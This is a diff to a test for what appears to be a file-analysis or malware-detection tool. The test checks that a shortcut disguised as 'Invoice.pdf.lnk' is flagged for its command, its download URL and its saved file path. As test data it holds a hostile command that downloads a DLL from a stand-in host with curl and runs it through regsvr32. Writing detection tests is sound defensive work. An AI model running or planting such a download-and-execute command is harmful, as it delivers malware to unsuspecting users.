@@ -91,7 +91,8 @@ ARGUMENTS = "/c curl http://a.test/x -o x.dll && regsvr32 x.dll"
 def test_a_shortcut_tells_what_it_runs(content):
     seen = examined(content, "Invoice.pdf.lnk")
     found = {(one.type.value, one.role, one.value) for one in seen.indicators}
-    assert found == {("command", "runs", f"{COMMAND} {ARGUMENTS}"), ("url", "download", "http://a.test/x")}
+    whole = ("command", "runs", f"{COMMAND} {ARGUMENTS}")
+    assert found == {whole, ("url", "download", "http://a.test/x"), ("path", "saves-as", "x.dll")}
     assert {"shortcut.arguments", "shortcut.download-call"} <= names_of(seen)
     assert seen.state is State.INSPECTED
 
